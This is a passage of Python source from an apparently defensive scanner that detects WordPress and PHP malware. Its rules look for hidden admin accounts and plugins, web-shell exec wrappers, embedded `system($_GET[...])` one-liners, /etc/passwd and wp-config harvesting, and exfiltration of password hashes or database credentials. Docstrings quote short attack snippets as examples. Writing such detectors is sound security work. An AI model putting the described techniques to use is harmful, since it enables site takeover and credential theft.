    admin pages that hides a row of the plugins list (``[data-slug="x"] {display: none}``).
    Malware that comes as a plugin stays installed this way; white-label tools that do the
    same are rare on a hosting account and are worth a look."""
    code = ctx.code
    text = string_text(ctx)
    if find(text, b"all_plugins") >= 0:
        for start, args in calls_to(ctx, (b"add_filter",), 50):
            parts = top_args(args)
            hook = PLACEHOLDER.fullmatch(parts[0].strip())
            if hook is None or ctx.lx.value(int(hook.group(1))).strip() != b"all_plugins":
                continue
            body = code[start : start + 2000]
            if len(parts) > 1:
                name = PLACEHOLDER.fullmatch(parts[1].strip())
                if name is not None:
                    fn = function_body(ctx, ctx.lx.value(int(name.group(1))).strip().lower())
                    body = fn if fn is not None else body
            if _UNSET_ENTRY.search(body) is not None:
                return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
    if find(text, b"display") >= 0 and find(text, b"admin_head") >= 0:  # the hook's name: a literal
        m = _HIDE_STYLE.search(text)
        if m is not None:
            return string_hit(ctx, m)
    return None


# the administrator role given: set_role('administrator'), 'role' => 'administrator'
_WP_ADMIN_ROLE = tight(
    rb"(?:set_role|add_role)\s*\(\s*\x01\d+\x01|\x01\d+\x01\s*=>\s*\x01\d+\x01"
)
# what WordPress code that may make or log in accounts checks first: the current user's
# capability, a nonce, a password
_WP_CHECKS = tight(
    rb"current_user_can|check_admin_referer|check_ajax_referer|wp_verify_nonce|is_super_admin|"
    rb"wp_check_password|wp_authenticate|wp_signon|password_verify|hash_equals|get_transient|"
    rb"get_user_meta|is_user_logged_in|wp_get_current_user"
)
_FUNC_HEAD = tight(rb"function\s*&?\s*(?:[a-z_\x80-\xff][\w\x80-\xff]*)?\s*\(")


def _enclosing_body(ctx: Ctx, pos: int) -> bytes:
    """The body of the function (or closure) around ``pos``; the whole code outside one."""
    return _enclosing_span(ctx, pos)[1]


def _enclosing_span(ctx: Ctx, pos: int) -> tuple[int, bytes]:
    """Where the body of the function (or closure) around ``pos`` starts, and the body; 0 and
    the whole code outside one. What comes between the start and ``pos`` is what a variable
    holds when the code at ``pos`` reads it (``$user = 'x'; wp_create_user($user, ...);
    $user = new WP_User($id);`` passes the literal)."""
    code = ctx.code
    heads = itertools.islice(_FUNC_HEAD.finditer(code, max(0, pos - 8000), pos), 50)
    for m in reversed(list(heads)):
        brace = find(code, b"{", m.end(), pos)
        if brace < 0:
            continue
        body = braced(code, brace)
        if brace + len(body) > pos:
            return brace, body
    return 0, code


_QUERY_WHERE = tight(rb"->\s*query_where\s*\.?=(?![=>])")
# a clause that leaves out one named account: user_login != 'x', user_login NOT IN ('x')
_LOGIN_EXCLUDED = tight(rb"user_login\W{0,3}\s*(?:!=|<>|not\s+in\s*\()\s*['\"]?\w")
# ... the account's name interpolated: user_login != '$hidden' (a variable set to a literal)
_LOGIN_EXCLUDED_VAR = tight(
    rb"user_login\W{0,3}\s*(?:!=|<>|not\s+in\s*\()\s*['\"]?\{?\$(" + NAME_P
    + rb")\b(?!\s*(?:->|\[))"
)


@feature("wp_hidden_user")
def _wp_hidden_user(ctx: Ctx, rule: Rule) -> Hit | None:
    """A ``pre_user_query`` hook that rewrites the users list's WHERE clause to leave out an
    account named in the code: an administrator the site owner cannot see in Users."""
    if string_text(ctx).find(b"pre_user_query") < 0:
        return None
    m = _QUERY_WHERE.search(ctx.code)
    if m is None:
        return None
    for p in itertools.islice(PLACEHOLDER.finditer(ctx.code, m.end(), m.end() + 600), 20):
        raw = ctx.lx.raw_strings[int(p.group(1))].lower()
        named = _LOGIN_EXCLUDED.search(raw) is not None
        if not named:
            v = _LOGIN_EXCLUDED_VAR.search(raw)
            # the name interpolated from a variable the hook sets to a literal, not the
            # signed-in user's own login read at run time
            before = ctx.code[_enclosing_span(ctx, p.start())[0] : p.start()]
            named = v is not None and _fixed_value(before, b"$" + v.group(1))
        if not named:
            named = _id_hidden_but_from_itself(ctx, raw, p.start())
        if named:
            return Hit(ctx.line_of_code(m.start()), ctx.excerpt_code(m.start(), m.end() + 100))
    return None


# ... an account's id left out: {$wpdb->users}.ID <> {$id}, ID != $id, ID NOT IN ($id)
_ID_EXCLUDED_VAR = tight(
    rb"\bid\W{0,3}\s*(?:!=|<>|not\s+in\s*\()\s*['\"]?\{?\$(" + NAME_P + rb")\b(?!\s*(?:->|\[))"
)
# the id kept where the planter left it: $id = get_option('_x'), get_site_option(...)
_STORED_ID = tight(
    rb"\s*=\s*@?\s*(?:\(\s*int\s*\)\s*|(?:intval|absint)\s*\(\s*)?@?\s*"
    rb"(?:get_option|get_site_option)\s*\("
)
_CURRENT_ID = tight(rb"get_current_user_id\s*\(\s*\)")


def _id_hidden_but_from_itself(ctx: Ctx, raw: bytes, pos: int) -> bool:
    """The users list's clause (the literal ``raw`` at ``pos``) leaves out the account whose
    id the hook reads from a stored option, in a hook that lets that account itself (the
    signed-in user's id compared with it) see the list whole and checks no capability: an
    administrator hidden from every other administrator, not a role filter of the site's."""
    v = _ID_EXCLUDED_VAR.search(raw)
    if v is None:
        return False
    start, body = _enclosing_span(ctx, pos)
    if start == 0 or body.find(b"current_user_can") >= 0 or body.find(b"is_super_admin") >= 0:
        return False
    var = b"$" + v.group(1)
    stored = any(
        _STORED_ID.match(body, at + len(var)) is not None
        for at in itertools.islice(_occurrences(body, var), 20)
    )
    if not stored:
        return False
    for c in itertools.islice(_CURRENT_ID.finditer(body), 10):
        got = assignment_before(body, c.start())
        sides = [re.escape(c.group())]
        if got is not None and body.startswith(got[1].strip(), c.start()):
            sides.append(re.escape(b"$" + got[0]) + rb"(?![\w\x80-\xff])")
        held = re.escape(var) + rb"(?![\w\x80-\xff])"
        for side in sides:
            pair = re.compile(
                side + rb"\s*[!=]==?\s*" + held + rb"|" + held + rb"\s*[!=]==?\s*" + side
            )
            if pair.search(body) is not None:
                return True
    return False


def _occurrences(text: bytes, var: bytes) -> Iterator[int]:
    """Offsets of ``$var`` in ``text`` (not of a longer name)."""
    at = text.find(var)
    while at >= 0:
        end = at + len(var)
        if end >= len(text) or text[end] not in NAME_BYTES:
            yield at
        at = text.find(var, end)




_WP_USER_LOOKUP = tight(
    rb"get_user_by\s*\(\s*\x01\d+\x01\s*,\s*(?:\x01\d+\x01|\d+)\s*\)|"
    rb"(?:get_users|wp_user_query)\s*\([^;]{0,80}?\x01\d+\x01\s*=>\s*\x01\d+\x01"
)


def _fixed_account_login(ctx: Ctx, start: int) -> bool:
    """``wp_set_auth_cookie($user->ID)`` (at ``start``) in a function that looks the user up
    by a login, id or role written in the code (``get_user_by('login', 'admin')``), runs on
    a request parameter, and checks no password, nonce or capability."""
    body = _enclosing_body(ctx, start)
    return (
        _WP_USER_LOOKUP.search(body) is not None
        and UIN_RE.search(body) is not None
        and _WP_CHECKS.search(body) is None
    )


# the administrators looked up by role: get_users(['role' => 'administrator']),
# new WP_User_Query(['role__in' => ['administrator']]), get_super_admins()
_ADMIN_LOOKUP = tight(rb"(?:get_users|wp_user_query)\s*\(([^;]{0,240})|get_super_admins\s*\(")
# what makes signing someone in as an administrator legitimate: the signed-in user's
# capability, a nonce, a password or key checked; or a local development site, the command line
_ADMIN_LOGIN_GUARDS = tight(
    rb"current_user_can|check_admin_referer|check_ajax_referer|wp_verify_nonce|is_super_admin|"
    rb"wp_check_password|wp_authenticate|wp_signon|password_verify|hash_equals|get_transient|"
    rb"wp_get_environment_type|wp_environment_type|wp_local_dev|wp_cli|php_sapi_name"
)


def _names_admins(ctx: Ctx, text: bytes) -> bool:
    """``text`` looks the administrators up by role (the role's name written in the call)."""
    for m in itertools.islice(_ADMIN_LOOKUP.finditer(text), 10):
        if m.group(1) is None:
            return True
        words = {ctx.lx.value(int(p.group(1))).strip().lower()
                 for p in itertools.islice(PLACEHOLDER.finditer(m.group(1)), 12)}
        if b"administrator" in words and (b"role" in words or b"role__in" in words):
            return True
    return False


# a user's administrator rights tested: user_can($id, 'administrator'),
# $user->has_cap('manage_options'), in_array('administrator', (array) $user->roles)
_ADMIN_WORDS = frozenset({b"administrator", b"manage_options", b"activate_plugins"})
# the signed-in visitor: re-giving one's own cookie signs nobody else in
_CURRENT_USER = tight(rb"get_current_user_id|wp_get_current_user|\$current_user\b")


def _tested_admin(ctx: Ctx, name: bytes) -> bool:
    """``$name`` (or its ``->ID``) is tested for an administrator's rights in the file (the
    users walked until one is an administrator) and never set to the signed-in visitor."""
    code = ctx.code
    var = re.escape(name)
    tests = re.compile(
        rb"user_can\s*\(\s*\$" + var + rb"\b(?:\s*->\s*id\b)?\s*,\s*\x01(\d+)\x01|"
        rb"\$" + var + rb"\s*->\s*has_cap\s*\(\s*\x01(\d+)\x01|"
        rb"in_array\s*\(\s*\x01(\d+)\x01\s*,\s*(?:\(\s*array\s*\)\s*)?\$" + var
        + rb"\s*->\s*roles\b"
    )
    for t in itertools.islice(tests.finditer(code), 5):
        idx = next(g for g in t.groups() if g is not None)
        if ctx.lx.value(int(idx)).strip().lower() not in _ADMIN_WORDS:
            continue
        given = re.compile(rb"\$" + var + rb"\s*=(?![=>])\s*([^;]{0,160})")
        sets = itertools.islice(given.finditer(code), 5)
        return not any(_CURRENT_USER.search(g.group(1)) for g in sets)
    return False


def _admin_role_login(ctx: Ctx, args: bytes) -> bool:
    """``wp_set_auth_cookie(...)`` (its argument text ``args``) gets the id of an
    administrator the file looks up by role (directly, through variables, or from a function
    of the file that does the lookup), and the file checks no capability, nonce, password or
    key and is not limited to a local site or the command line: whoever opens the page is
    signed in as the administrator. A sign-up that signs the new user in, or a notice mailed
    to the administrators, gives the cookie to another id."""
    code = ctx.code
    if _ADMIN_LOGIN_GUARDS.search(code) is not None:
        return False
    arg = first_arg(args)
    if _names_admins(ctx, arg):
        return True
    if any(_tested_admin(ctx, v.group(1)) for v in itertools.islice(VAR.finditer(arg), 2)):
        return True
    makers = [re.escape(name) for name, body in function_bodies(ctx).items()
              if _names_admins(ctx, body)]
    maker = re.compile(rb"(?<![\w$>:])(?:" + b"|".join(makers) + rb")\s*\(") if makers else None
    todo = [v.group(1) for v in itertools.islice(VAR.finditer(arg), 2)]
    seen: set[bytes] = set()
    for _hop in range(3):
        found: list[bytes] = []
        for name in todo:
            if name in seen:
                continue
            seen.add(name)
            given = re.compile(rb"\$" + re.escape(name) + rb"\s*=(?![=>])\s*([^;]{0,240})")
            for g in itertools.islice(given.finditer(code), 5):
                rhs = g.group(1)
                if _names_admins(ctx, rhs) or (maker is not None and maker.search(rhs)):
                    return True
                found.extend(v.group(1) for v in itertools.islice(VAR.finditer(rhs), 3))
        todo = found
    return False


# a user looked up by what the request names: get_user_by('login', $_GET['u']),
# get_userdatabylogin($wp->query_vars['username']), get_user_by('email', get_query_var('m'))
_WP_USER_FIND = tight(
    rb"(?<![\w$>:])(?:get_user_by|get_userdatabylogin|get_user_by_email|get_userdata|"
    rb"get_user_by_login)\s*\(([^;]{0,160})"
)
_WP_REQUEST = tight(UIN_RE.pattern + rb"|query_vars\s*\[|get_query_var\s*\(")
# what a passwordless sign-in checks instead of a password: the key of a reset or magic link
# (kept as an option, a transient, user meta), an auth cookie
_WP_LINK_CHECKS = tight(
    rb"check_password_reset_key|wp_validate_auth_cookie|get_option|get_site_option|"
    rb"wp_verify_nonce|verify|[!=]==?\s*\$(?:stored|saved|expected|token|key|hash)"
)


def _request_account_login(ctx: Ctx, start: int) -> bool:
    """``wp_set_auth_cookie($user->ID)`` (at ``start``) in a function that looks the user up
    by a login, e-mail or id the request names (``$_GET``, WordPress's query variables) and
    checks no password, key, nonce or capability: anyone who names an administrator in the
    address is logged in as one. A sign-in form checks the password; a magic link checks
    its key."""
    body = _enclosing_body(ctx, start)
    if _WP_CHECKS.search(body) is not None or _WP_LINK_CHECKS.search(body) is not None:
        return False
    for m in itertools.islice(_WP_USER_FIND.finditer(body), 5):
        args = m.group(1)
        if _WP_REQUEST.search(args) is not None:
            return True
        for v in itertools.islice(VAR.finditer(args), 3):
            given = re.compile(rb"\$" + re.escape(v.group(1)) + rb"\s*=[^=;][^;]{0,120}")
            if any(_WP_REQUEST.search(g.group(0)) is not None
                   for g in itertools.islice(given.finditer(body), 3)):
                return True
    return False


@feature("account_harvest")
def _account_harvest(ctx: Ctx, rule: Rule) -> Hit | None:
    """Reads /etc/passwd to list the server's accounts and goes through their home folders or
    their site configuration files (config grabbers, cross-account password harvesting)."""
    text = string_text(ctx)
    if find(text, b"/etc/passwd") < 0 or prefiltered_search(_OTHER_ACCOUNTS, text) is None:
        return None
    for start, args in calls_to(ctx, READ_CALLS, 50):
        p = PLACEHOLDER.match(first_arg(args).strip())
        if p is not None and b"/etc/passwd" in ctx.lx.value(int(p.group(1))).lower():
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
    return None


# where a script finds the server's other accounts: the lists of accounts and of the domains
# they own (cPanel's, DirectAdmin's, the DNS zones' folder), or the homes walked with a wildcard
_ACCOUNT_LISTS = tight(
    rb"(?:^|\x00)(?:/etc/(?:passwd|valiases|userdomains|trueuserdomains|domainusers|"
    rb"virtual/domainowners|named\.conf)|/var/named|/home\d*\*?/?\*?)(?:/?\x00|/\*|\*/)"
)
# the configuration files of the applications a shared server's sites run, with their
# database passwords (WordPress, Joomla, Magento, OpenCart/osCommerce, Laravel's .env...)
_SITE_CONFIGS = tight(
    rb"wp-config\.php|configuration\.php|local\.xml|app/etc/env\.php|includes/configure\.php|"
    rb"config\.inc\.php|(?:^|[\x00/])\.env(?:\x00|$)|\.my\.cnf|sites/default/settings\.php"
)
_GRAB_CALLS = (*READ_CALLS, b"is_readable", b"file_exists")
# what only a command-line script tests: its arguments, the SAPI
_CLI_ONLY = (b"$argv", b"php_sapi_name", b"php_sapi", b"getopt")


_LISTING_CALLS = (b"scandir", b"opendir", b"glob", b"file", b"fopen", b"file_get_contents", b"dir")
_ITERATOR_OF = tight(rb"directoryiterator\s*\(\s*(\x01\d+\x01)")


def _accounts_listed(ctx: Ctx) -> bool:
    """A list of the accounts or their domains read, or the homes listed: a listing or
    reading call (scandir, opendir, glob, file, a directory iterator...) given a literal of
    :data:`_ACCOUNT_LISTS`."""
    firsts = [first_arg(args).strip() for _s, args in calls_to(ctx, _LISTING_CALLS, 40)]
    firsts += [m.group(1) for m in itertools.islice(_ITERATOR_OF.finditer(ctx.code), 10)]
    for first in firsts:
        p = PLACEHOLDER.match(first)
        if p is not None:
            lit = b"\x00" + ctx.lx.value(int(p.group(1))).lower() + b"\x00"
            if _ACCOUNT_LISTS.search(lit) is not None:
                return True
    return False


def _uid_walk(ctx: Ctx) -> bool:
    """The accounts enumerated by number: posix_getpwuid() of a for loop's counter
    (``for ($uid = 500; $uid < 5000; $uid++) { $pw = posix_getpwuid($uid); ... }``)."""
    for _start, args in calls_to(ctx, (b"posix_getpwuid",), 10):
        v = VAR.fullmatch(first_arg(args).strip())
        if v is not None and re.search(
            rb"\bfor\s*\(\s*\$" + re.escape(v.group(1)) + rb"\s*=", ctx.code
        ):
            return True
    return False


@feature("config_grab")
def _config_grab(ctx: Ctx, rule: Rule) -> Hit | None:
    """A config grabber that finds the other accounts without /etc/passwd's reader (that is
    shell.account-harvest's): the domains' owners (``/etc/valiases``, ``/etc/userdomains``,
    ``/var/named``), or the homes walked (``scandir('/home')``,
    ``glob('/home*/*/public_html/wp-config.php')``), and the sites' configuration files
    named and read, copied or linked (``symlink("/home/$u/public_html/wp-config.php",
    ...)``) through a path the script puts together. A backup walks the homes and names no
    configuration file; an application reads its own by a path it writes whole."""
    if has_any(ctx, _CLI_ONLY):
        return None  # a root's audit on the command line, not a page
    text = string_text(ctx)
    if search_needing(_SITE_CONFIGS, text) is None:
        return None
    listed = search_needing(_ACCOUNT_LISTS, text) is not None and _accounts_listed(ctx)
    if not listed and not _uid_walk(ctx):
        return None  # the lists only named (a download helper's refused paths)
    for start, args in calls_to(ctx, _GRAB_CALLS, 60):
        first = first_arg(args).strip()
        if PLACEHOLDER.fullmatch(first) is not None and ctx.lx.kinds[
            int(PLACEHOLDER.fullmatch(first).group(1))  # type: ignore[union-attr]
        ] not in ("dq", "heredoc"):
            continue  # a path written whole: the script's own file
        if VAR.search(interpolated(ctx, first)) is None:
            continue
        return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 100))
    return None


_FUNC_DEF = tight(rb"function\s+(" + NAME_P + rb")\s*\(\s*\$(" + NAME_P + rb")")


_ARG_VAR = tight(rb"\s*@?\s*\$(" + NAME_P + rb")")


_LOCAL_ASSIGN = tight(rb"\$(" + NAME_P + rb")\s*\.?=(?![=>])([^;]{0,300});")


def _derived_from(ctx: Ctx, d: re.Match[bytes], pos: int, var: bytes) -> bool:
    """``$var`` at ``pos`` holds text built from the first parameter of the function ``d``
    through the body's own assignments (``$p = $cmd; $r = "{$p} -c";``)."""
    derived = {d.group(2)}
    body = ctx.code[d.end() : pos]
    for m in itertools.islice(_LOCAL_ASSIGN.finditer(body), 40):
        # a value quoted by escapeshellarg() is one argument, not a command of its own; a
        # command passed through escapeshellcmd() cannot chain another
        if m.group(2).find(b"escapeshellcmd") >= 0:
            continue
        rhs = shell_quoted_removed(interpolated(ctx, m.group(2)))
        used = {u.group(1) for u in VAR.finditer(rhs)}
        if used & derived:
            derived.add(m.group(1))
    return var in derived


def _exec_wrappers(ctx: Ctx, past_guards: bool = True) -> list[bytes]:
    """The script's own functions that run their first parameter as a shell command
    (``function run($c) { return shell_exec($c); }``), at most 10. ``past_guards``: the
    definition is the last one before the call even when a ``function_exists(`` check or a
    closure comes between (False: the last word "function" before the call must be it)."""
    return _wrappers_past_guards(ctx) if past_guards else _wrappers_plain(ctx)


@per_file("exec-wrappers")
def _wrappers_past_guards(ctx: Ctx) -> list[bytes]:
    return _find_exec_wrappers(ctx, True)


@per_file("exec-wrappers-plain")
def _wrappers_plain(ctx: Ctx) -> list[bytes]:
    return _find_exec_wrappers(ctx, False)


def _find_exec_wrappers(ctx: Ctx, past_guards: bool) -> list[bytes]:
    code = ctx.code
    wrappers: list[bytes] = []
    for start, args in calls_to(ctx, EXEC_NAMES_B, 200):  # the calls other rules looked up
        v = _ARG_VAR.match(args)
        if v is None:
            continue
        # the function this call is in: the last definition within 1,500 bytes before it
        # (its body is not another's); "function_exists(" and closures are not definitions
        if past_guards:
            found = _FUNC_DEF.finditer(code, max(0, start - 1500), start)
            defs = list(itertools.islice(found, 50))
            d = defs[-1] if defs else None
        else:
            at = code.rfind(b"function", max(0, start - 1500), start)
            d = _FUNC_DEF.match(code, at) if at >= 0 else None
        if (
            d is not None
            and d.group(1) not in wrappers
            and (d.group(2) == v.group(1) or _derived_from(ctx, d, start, v.group(1)))
        ):
            wrappers.append(d.group(1))
            if len(wrappers) >= 10:
                break
    return wrappers


_CALL_AHEAD = tight(rb"\s*\(([^;]{0,200})")


def _wrapper_calls(ctx: Ctx, name: bytes) -> Iterator[tuple[int, bytes]]:
    """Where the script calls its function ``name`` (not the definition), with the first
    argument's text."""
    code = ctx.code
    # each "name" followed by ``\s*\(([^;]{0,200})``, as finditer of
    # ``name(?=\s*\(([^;]{0,200}))`` finds them, with no pattern compiled per name
    pos = find(code, name) if name else -1
    seen = 0
    while pos >= 0 and seen < 200:
        after = pos + len(name)
        c = _CALL_AHEAD.match(code, after)
        if c is None:
            pos = find(code, name, pos + 1)
            continue
        seen += 1
        if not (pos and code[pos - 1] in NOT_CALL_BEFORE) and not code[
            max(0, pos - 12) : pos
        ].rstrip().endswith(b"function"):  # not a method, a longer name, the definition
            yield pos, first_arg(c.group(1))
        pos = find(code, name, after)


@feature("exec_wrapper")
def _exec_wrapper(ctx: Ctx, rule: Rule) -> Hit | None:
    """A function of the script's own that runs its first parameter as a shell command
    (``function run($c) { return shell_exec($c); }``), called with request input: the
    command-runner of a small web shell, one call away from the request. The rule's
    ``past_guards`` says how the definition is found (see :func:`_exec_wrappers`)."""
    wrappers = _exec_wrappers(ctx, bool(rule.params.get("past_guards", True)))
    if not wrappers:
        return None
    req = taint(ctx)[0]
    for name in wrappers:
        for pos, args in _wrapper_calls(ctx, name):
            if encoded_argument(ctx, args):
                continue  # the request's part is percent-encoded, after the command
            if REQ_RE.search(args) or set(VAR.findall(args)) & req:
                return Hit(ctx.line_of_code(pos), ctx.excerpt_code(pos, pos + 80))
    return None


@feature("exec_wrapper_used")
def _exec_wrapper_used(ctx: Ctx, rule: Rule) -> Hit | None:
    """A function of the script's own that runs its parameter as a shell command, called in
    a script that reads request input with a variable that is never set (register_globals
    fills it from the request) or that names a file the script writes (posted source compiled
    and run). Suspicious alone; malicious in a small file that does little else. A helper
    run with literals or configured values is not counted."""
    if not has_request_words(ctx):
        return None
    code = ctx.code
    written: set[bytes] | None = None
    for name in _exec_wrappers(ctx):
        for pos, args in _wrapper_calls(ctx, name):
            for var in VAR.findall(interpolated(ctx, args))[:6]:
                if written is None:  # variables in the paths of the files the script writes
                    written = set()
                    for _s, wargs in calls_to(ctx, (b"file_put_contents", b"fopen"), 50):
                        written.update(VAR.findall(interpolated(ctx, first_arg(wargs))))
                if var in written:
                    return Hit(ctx.line_of_code(pos), ctx.excerpt_code(pos, pos + 80))
                # never set (register_globals fills it), in a call outside any function
                v = re.escape(var)
                assigned = re.search(
                    rb"\$" + v + rb"\s*(?:\[[^\]\n]{0,40}\]\s*)*[.]?=(?![=>])", code
                )
                if assigned is None and not _inside_function(code, pos):
                    return Hit(ctx.line_of_code(pos), ctx.excerpt_code(pos, pos + 80))
    return None


def _inside_function(code: bytes, pos: int) -> bool:
    """Whether ``pos`` is inside the body of the last function defined before it."""
    d = code.rfind(b"function", 0, pos)
    if d < 0:
        return False
    opening = find(code, b"{", d, pos)
    if opening < 0:
        return False
    return code.count(b"{", opening, pos) > code.count(b"}", opening, pos)


_WRAPPER_PREFIX = (b"compress.zlib://", b"php://filter", b"glob://", b"zip://", b"phar://")


@feature("wrapper_request")
def _wrapper_request(ctx: Ctx, rule: Rule) -> Hit | None:
    """A stream-wrapper prefix (compress.zlib://, php://filter...) glued to a path that comes
    from request input: reads any file past safe_mode/open_basedir on demand."""
    text = string_text(ctx)
    if not any(find(text, w) >= 0 for w in _WRAPPER_PREFIX):
        return None
    code = ctx.code
    req = taint(ctx)[0]
    for m in re.finditer(rb"\x01(\d+)\x01\s*\.\s*(\$_(?:get|post|request|cookie)\b|\$(\w+))", code):
        val = ctx.lx.value(int(m.group(1))).lower()
        if not val.startswith(_WRAPPER_PREFIX):
            continue
        if m.group(3) is not None and _rooted_basename(code, m.group(3)):
            continue  # a file of the site's own folder the request names (a download page)
        if m.group(3) is None or m.group(3) in req:
            return Hit(ctx.line_of_code(m.start()), ctx.excerpt_code(m.start(), m.start() + 80))
    return None


def _rooted_basename(code: bytes, var: bytes) -> bool:
    """``$var`` is set only to a path under the script's own folder (``__DIR__ . '/exports/'
    . $f``) and the file takes the request's name through basename(): no other file of the
    server can be named."""
    sets = re.findall(rb"\$" + re.escape(var) + rb"\s*\.?=(?![=>])\s*([^;]{0,40})", code)
    return (
        bool(sets)
        and all(re.match(rb"(?:__dir__|dirname\s*\(\s*__file__\s*\))\s*\.", s) for s in sets)
        and find(code, b"basename(") >= 0
    )


_SHELL_IN_TEXT = tight(
    rb"(?:system|exec|shell_exec|passthru|popen|eval|assert)\s*\(\s*(?:\\?\$_(?:get|post|request|cookie)|"
    rb"base64_decode)"
)


@feature("embedded_shell")
def _embedded_shell(ctx: Ctx, rule: Rule) -> Hit | None:
    """A string literal that holds a PHP one-liner running request input (``<?php
    system($_GET[c]); ?>``): a web shell about to be written somewhere (by fwrite, SQL INTO
    OUTFILE, a log or an upload)."""
    text = string_text(ctx)
    at_text = find(text, b"<?")
    if at_text < 0:
        return None
    # the literals holding "<?", in order, found in the joined text ("<?" never spans the
    # NUL between two literals; -1 is the inline HTML, after all of them)
    holders: list[int] = []
    while at_text >= 0 and len(holders) <= 200:
        idx = string_at(ctx, at_text)
        if idx < 0:
            break
        if not holders or holders[-1] != idx:
            holders.append(idx)
        at_text = find(text, b"<?", at_text + 2)
    for idx in holders[:200]:
        val = ctx.lx.value(idx).lower()
        at = val.find(b"<?")
        if _SHELL_IN_TEXT.search(val, at) is not None and not _wraps_own_encoding(ctx, idx, val):
            return Hit(ctx.line_of_string(idx), excerpt(ctx.lx.raw_strings[idx][:80]))
    return None


# a literal that ends where base64_decode()'s quoted argument starts ("<?php eval(base64_decode('")
_OPENS_DECODED_ARG = tight(rb"base64_decode\s*\(\s*['\"]\Z")


# request input named in a literal (code about to be written that reads it)
_REQUEST_IN_TEXT = tight(rb"\$_(?:get|post|request|cookie|files|server)\b|php://input")


# what reads from elsewhere: a fetch, a stream, a socket
_FETCHES = tight(rb"://|\bcurl_|\bfile_get_contents\b|\bfopen\b|\bfsockopen\b|\bstream_")


def _wraps_own_encoding(ctx: Ctx, idx: int, val: bytes) -> bool:
    """The literal ``idx`` opens ``base64_decode('`` and the code glues to it the
    base64_encode() of what the script itself holds (``"<?php eval(base64_decode('" .
    base64_encode($packed) . "'));"``), in a file that reads no request input and has none
    in its literals, the encoded value fetched from nowhere: an obfuscator or encoder writing
    the wrapper of the code it was given, its output. Not a payload kept in the file, taken
    from the visitor or downloaded."""
    if _REQUEST_IN_TEXT.search(val) is not None or _OPENS_DECODED_ARG.search(val) is None:
        return False
    code = ctx.code
    glued = re.search(rb"\x01" + str(idx).encode() + rb"\x01\s*\.\s*base64_encode\s*\(", code)
    if glued is None:
        return False
    start = glued.end()
    arg = code[start : start + close_paren(code[start : start + 400])]
    return (
        _FETCHES.search(arg) is None
        and not request_input_in_code(ctx)
        and _REQUEST_IN_TEXT.search(string_text(ctx)) is None
    )


_HASH_SELECT = tight(rb"\bselect\b[^;\x00]{0,300}?\buser_pass\b[^;\x00]{0,300}?\bfrom\b")


_EMAIL = tight(rb"[\w.+-]+@[\w-]+(?:\.[\w-]+)+")


_WP_HTTP_CALLS = (b"wp_remote_post", b"wp_remote_get")


@feature("hash_exfil")
def _hash_exfil(ctx: Ctx, rule: Rule) -> Hit | None:
    """A query for WordPress password hashes (``SELECT user_login, user_pass FROM wp_users``)
    in a script that sends data to a hard-coded place: mail() to a literal address, or a
    fetch or post to a literal web address. Alone it is suspicious (WordPress's own upgrade
    code queries the hashes and talks to wordpress.org); in a small dropper it is malicious."""
    text = string_text(ctx)
    # every match holds "user_pass": a literal search first (the regex starts with \b, which
    # the regex engine tries at every offset of the text)
    match = _HASH_SELECT.search(text) if find(text, b"user_pass") >= 0 else None
    if match is None:
        return None
    idx = string_at(ctx, match.start())
    line = ctx.line_of_string(idx) if idx >= 0 else 0
    for _start, args in calls_to(ctx, SINK_NAMES["mail"], 50):
        if any(_EMAIL.fullmatch(v.strip()) for v in recipient_literals(ctx, args)):
            return Hit(line, excerpt(match.group()))
    if any(web_address(ctx, m) for m in itertools.islice(REMOTE_FETCH.finditer(ctx.code), 50)):
        return Hit(line, excerpt(match.group()))
    for _start, args in calls_to(ctx, _WP_HTTP_CALLS, 50):
        if web_address(ctx, PLACEHOLDER.match(first_arg(args).strip())):
            return Hit(line, excerpt(match.group()))
    return None


# the database settings' constants of WordPress's wp-config.php, as written in code (the code
# is lower-cased; not a property, a static member, a variable or a namespaced name)
_DB_PASSWORD = tight(rb"(?<![\w$>:\\])db_password\b")
_DB_OTHER = tight(rb"(?<![\w$>:\\])db_(?:user|name|host)\b")


# calls that send what they are given off the host: the HTTP API, curl's options, mail
_CRED_SENDS = (
    b"wp_remote_post", b"wp_remote_get", b"wp_remote_request", b"wp_safe_remote_post",
    b"wp_safe_remote_get", b"curl_setopt", b"file_get_contents", b"stream_context_create",
    b"mail", b"wp_mail",
)  # fmt: skip


# an assignment of a value to a variable (or to an element of it, or appended to it)
_CRED_HOLDER = tight(rb"\$(" + NAME_P + rb")\s*(?:\[[^\]\n]{0,80}\]\s*)*\.?=(?![=>])")


# a value that only carries the settings: an array, a string, an encoding of them; a call of
# anything else (new wpdb(...), mysqli_connect(...), new PDO(...)) uses them to connect
_CRED_DATA_START = tight(
    rb"\s*(?:@\s*)?(?:\[|\x01|db_|\"|array\s*\(|(?:http_build_query|json_encode|serialize|"
    rb"base64_encode|implode|compact|sprintf|urlencode|rawurlencode|var_export|print_r)\s*\()"
)


def _cred_holders(code: bytes) -> dict[bytes, bytes]:
    """The variables a file assigns a value holding the database password as data (an
    array, a string, an encoding of them), with that value: what a send may carry later."""
    out: dict[bytes, bytes] = {}
    start = find(code, b"db_password")
    while start >= 0 and len(out) < 20:
        stmt = max(code.rfind(b";", 0, start), code.rfind(b"{", 0, start),
                   code.rfind(b"}", 0, start)) + 1  # fmt: skip
        m = _CRED_HOLDER.search(code, stmt, start)
        if m is not None and code[stmt:m.start()].strip() in (b"", b"@"):
            value = code[m.end() : start + 2000]
            end = value.find(b";")
            value = value[:end] if end >= 0 else value
            if _CRED_DATA_START.match(value):
                out[m.group(1)] = out.get(m.group(1), b"") + b"\x00" + value
        start = find(code, b"db_password", start + 11)
    return out


@feature("db_credentials_sent")
def _db_credentials_sent(ctx: Ctx, rule: Rule) -> Hit | None:
    """The site's database password sent off the host with another of its settings: a
    request (``wp_remote_post($c2, ['body' => ['DB_USER' => DB_USER, 'DB_PASSWORD' =>
    DB_PASSWORD]])``), curl's options, a fetched address or mail() carries ``DB_PASSWORD``
    and ``DB_USER``, ``DB_NAME`` or ``DB_HOST`` of wp-config.php, written in the call or in
    an array or string a variable holds. Connecting with them (``new wpdb(DB_USER,
    DB_PASSWORD, ...)``, ``mysqli_connect()``, a mysqldump command line) is no send."""
    code = ctx.code
    if find(code, b"db_password") < 0:
        return None
    holders = _cred_holders(code)
    for start, _args in calls_to(ctx, _CRED_SENDS, 100):
        opens = find(code, b"(", start)
        if opens < 0:
            continue
